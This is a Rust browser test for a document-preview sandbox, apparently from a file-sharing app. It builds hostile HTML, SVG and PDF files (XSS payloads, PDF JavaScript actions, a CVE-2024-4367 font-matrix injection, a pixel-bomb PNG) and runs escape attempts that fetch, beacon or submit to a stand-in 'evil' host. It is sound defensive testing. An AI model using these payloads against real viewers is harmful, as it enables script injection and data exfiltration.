//! A hostile sender: whatever stands in a file that is looked at, nothing of it runs in the app's origin, and no request
//! leaves.

use std::path::PathBuf;

use anyhow::{Context, Result, ensure};
use harness::{
    browser::Browser,
    files,
    journey::Journey,
    proxy::Proxy,
    wait::{SOON, until},
};

use crate::{
    preview::{FRAME, close, look, pdf, receives, refused},
    start,
};

/// What hostile scripts try; `{evil}` is a server that must never hear anything.
const ATTACK: &str = "try{parent.hacked=1}catch{};try{top.document.title='hacked'}catch{};\
    try{localStorage.hacked=1}catch{};window.hacked=1;document.title='hacked';fetch('{evil}/fetch')";

/// Hostile files that are shown, harmless.
fn shown(journey: &Journey, evil: &str) -> Result<Vec<PathBuf>> {
    let attack = ATTACK.replace("{evil}", evil);
    let page = format!(
        "<!doctype html><base href='{evil}/'><meta http-equiv=refresh content='0;{evil}/refresh'><title>hacked</title>\
         <script>{attack}</script><script src='{evil}/script'></script><img src='{evil}/img' onerror=\"{attack}\">\
         <form id=f action='{evil}/form'></form><script>f.submit()</script><iframe src='{evil}/frame'></iframe>"
    );
    let drawing = format!(
        "<?xml version='1.0'?><?xml-stylesheet href='{evil}/style'?><svg xmlns='http://www.w3.org/2000/svg' \
         xmlns:xlink='http://www.w3.org/1999/xlink' width='60' height='40' onload=\"{attack}\">\
         <style>@import url('{evil}/import');</style><rect width='60' height='40' fill='url({evil}/fill)'/>\
         <script>{attack}</script><script xlink:href='{evil}/script'/><image href='{evil}/image' width='9' height='9'/>\
         <use href='{evil}/use#x'/><foreignObject width='60' height='40'><iframe xmlns='http://www.w3.org/1999/xhtml' \
         srcdoc=\"&lt;script>{attack}&lt;/script>\" src='{evil}/frame'></iframe></foreignObject>\
         <a href='{evil}/link'><text y='20'>x</text></a></svg>"
    );
    let write = |name: &str, bytes: &[u8]| files::write(journey.files(), name, bytes);
    Ok(vec![
        write("Seite.html", page.as_bytes())?,
        write("Zeichnung.svg", drawing.as_bytes())?,
        write("Akte.pdf", &hostile_pdf(&attack, evil))?,
    ])
}

/// Scripts at every place where a PDF may have them, and a font whose matrix is a script (CVE-2024-4367).
fn hostile_pdf(attack: &str, evil: &str) -> Vec<u8> {
    let script = attack.replace('\\', "\\\\").replace('(', "\\(").replace(')', "\\)");
    let catalog = format!(
        "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);{script})>>/AA<</WC<</S/URI/URI({evil}/close)>>>>\
         /Names<</JavaScript<</Names[(x)<</S/JavaScript/JS({script})>>]>>>>/AcroForm<</Fields[100 0 R]/XFA 104 0 R>>"
    );
    let matrix = format!("[1 2 3 4 5 (0\\); {script}//)]");
    let widths: String = std::iter::repeat_n("600 ", 224).collect();
    let xfa = format!("<xdp><script contentType='application/x-javascript'>{attack}</script></xdp>");
    let objects = format!(
        "100 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 400 300]/A<</S/URI/URI({evil}/link)>>\
         /AA<</E<</S/JavaScript/JS({script})>>/PV<</S/SubmitForm/F({evil}/form)>>>>>>endobj\n\
         101 0 obj<</Type/Font/Subtype/Type1/BaseFont/Evil/FontMatrix {matrix}/FirstChar 32/LastChar 255\
         /Widths[{widths}]/FontDescriptor 102 0 R>>endobj\n\
         102 0 obj<</Type/FontDescriptor/FontName/Evil/Flags 4/FontBBox[0 0 1000 1000]/ItalicAngle 0/Ascent 800\
         /Descent 0/CapHeight 700/StemV 80>>endobj\n\
         104 0 obj<</Length {}>>stream\n{xfa}\nendstream endobj\n\
         105 0 obj<</Title(<img src=x onerror=\"{script}\">)>>endobj\n",
        xfa.len()
    );
    let line = ") Tj /F2 24 Tf (evil".to_owned();
    pdf(&[line], &catalog, &objects)
}

/// A PNG that says that it has ten billion pixels.
const BOMB: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\x01\x86\xa0\0\x01\x86\xa0\x08\x06\0\0\0";

#[tokio::test(flavor = "multi_thread")]
async fn preview_sandbox() -> Result<()> {
    Journey::run("preview_sandbox", async |journey| {
        let (server, proxy, anna) = start::admin_behind_proxy(journey).await?;
        let evil = Proxy::start(server.port()).await?;
        let mut sent = shown(journey, &evil.origin())?;
        let count = sent.len();
        let markup = format!("<script>{ATTACK}</script>");
        sent.push(files::write(journey.files(), "Bild.png", markup.as_bytes())?);
        sent.push(files::write(journey.files(), "Bombe.png", BOMB)?);
        let bert = start::recipient(journey, &proxy.origin()).await?;
        receives(&anna, &bert, sent.clone()).await?;
        let browser = &bert.browser;
        let title = browser.script("return document.title", &[]).await?;

        for (index, file) in sent.iter().enumerate().take(count) {
            look(browser, index).await.with_context(|| format!("{}", file.display()))?;
            if index == 0 {
                is_source(browser, file).await?;
            }
            reaches_nothing(browser, &proxy, &evil).await.with_context(|| format!("{}", file.display()))?;
            close(browser, index).await?;
        }
        ensure!(refused(browser, count).await? == "preview-other-kind");
        close(browser, count).await?;
        ensure!(refused(browser, count + 1).await? == "preview-too-many-pixels");
        close(browser, count + 1).await?;

        let stained = "return window.hacked !== undefined || localStorage.getItem('hacked') !== null";
        ensure!(browser.script(stained, &[]).await? == false, "something ran in our origin");
        ensure!(browser.script("return document.title", &[]).await? == title);
        ensure!(evil.seen().all().is_empty(), "a request left: {:?}", targets(&evil));
        Ok(())
    })
    .await
}

/// A page is shown as the text that it is.
async fn is_source(browser: &Browser, file: &std::path::Path) -> Result<()> {
    browser
        .within(FRAME, async || {
            let text = browser.script("return document.querySelector('pre').textContent", &[]).await?;
            ensure!(text.as_str() == Some(std::fs::read_to_string(file)?.as_str()), "not the source: {text}");
            let elements = browser
                .script("return document.querySelectorAll('main :not(pre, pre > div)').length", &[])
                .await?;
            ensure!(elements == 0, "the source became elements");
            Ok(())
        })
        .await
}

/// Even a script that did run in the sandbox would reach nothing: the test is that script.
async fn reaches_nothing(browser: &Browser, proxy: &Proxy, evil: &Proxy) -> Result<()> {
    let before = proxy.seen().all().len();
    let tried = browser
        .forbidden(async || {
            browser
                .within(FRAME, async || {
                    browser.script_async(ESCAPES, &[evil.origin().into(), proxy.origin().into()]).await
                })
                .await
        })
        .await?;
    let escaped: Vec<_> = tried.as_array().context("a list")?.iter().filter(|one| !one.is_null()).collect();
    ensure!(escaped.is_empty(), "the sandbox leaks: {escaped:?}");
    ensure!(evil.seen().all().is_empty(), "a request left: {:?}", targets(evil));
    let ours: Vec<_> = proxy.seen().all().into_iter().skip(before).map(|seen| seen.target).collect();
    ensure!(ours.iter().all(|target| !target.contains("escape")), "the server heard of it: {ours:?}");
    Ok(())
}

fn targets(proxy: &Proxy) -> Vec<String> {
    proxy.seen().all().into_iter().map(|seen| seen.target).collect()
}

/// Each line is one way out; it gives the name of a way that is open.
const ESCAPES: &str = r"
    const [evil, own] = args;
    const shut = async (name, attempt) => { try { return (await attempt()) === undefined ? null : name } catch { return null } };
    const soon = (start) => new Promise((done) => { start(done); setTimeout(done, 1000) });
    return Promise.all([
        shut('an origin', () => window.origin === 'null' ? undefined : window.origin),
        shut('our document', () => parent.document.title),
        shut('our memory', () => parent.siegel ?? parent.localStorage),
        shut('storage', () => localStorage),
        shut('cookies', () => document.cookie),
        shut('databases', () => new Promise((done, failed) => { const r = indexedDB.open('x'); r.onsuccess = () => done(1); r.onerror = failed })),
        shut('private files', () => navigator.storage.getDirectory()),
        shut('fetch elsewhere', () => fetch(evil + '/escape')),
        shut('fetch at home', () => fetch(own + '/api/instance?escape')),
        shut('fetch an asset', () => fetch(own + '/robots.txt?escape')),
        shut('beacon', () => { navigator.sendBeacon(evil + '/escape') }),
        shut('socket', () => soon((done) => { new WebSocket(evil.replace('http', 'ws') + '/escape').onopen = () => done(1) })),
        shut('image', () => soon((done) => { const i = new Image(); i.onload = () => done(1); i.src = evil + '/escape' })),
        shut('script', () => import(evil + '/escape')),
        shut('frame', () => soon((done) => { const f = document.createElement('iframe'); f.src = evil + '/escape'; document.body.append(f); f.remove(); done() })),
        shut('window', () => open(evil + '/escape') ?? undefined),
        shut('top', () => { top.location = evil + '/escape' }),
        shut('eval', () => soon((done) => setTimeout(() => { try { done((0, eval)('1')) } catch { done() } }))),
        shut('markup', () => { document.body.insertAdjacentHTML('beforeend', '<i></i>'); return 1 }),
        shut('form', () => { const f = document.createElement('form'); f.action = evil + '/escape'; document.body.append(f); f.submit() }),
        shut('download', () => { const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'escape'; a.click() }),
    ]);
";

/// The page of the sandbox shows nothing by itself, and takes nothing from anybody but the page around it.
#[tokio::test(flavor = "multi_thread")]
async fn preview_sandbox_alone() -> Result<()> {
    Journey::run("preview_sandbox_alone", async |journey| {
        let server = journey.server(&[]).await?;
        let browser = journey.browser("visitor", harness::browser::Look::ENGLISH).await?;
        browser.visit(&format!("{}/preview.html", server.origin())).await?;
        until("the page's script", SOON, async || Ok((browser.script("return document.readyState", &[]).await? == "complete").then_some(()))).await?;
        ensure!(browser.script("return window.origin", &[]).await? == "null");
        let offer = "const line = new MessageChannel(); const heard = new Promise((done) => { line.port1.onmessage = done }); \
                     const bytes = new TextEncoder().encode('x').buffer; \
                     postMessage({ kind: 'text', bytes, words: {}, language: 'en' }, '*', [line.port2]); \
                     const late = new Promise((done) => setTimeout(() => done('silent'), 500)); \
                     return Promise.race([heard.then(() => 'heard'), late])";
        ensure!(browser.script_async(offer, &[]).await? == "silent");
        ensure!(browser.script("return document.body.children.length", &[]).await? == 0);
        Ok(())
    })
    .await
}
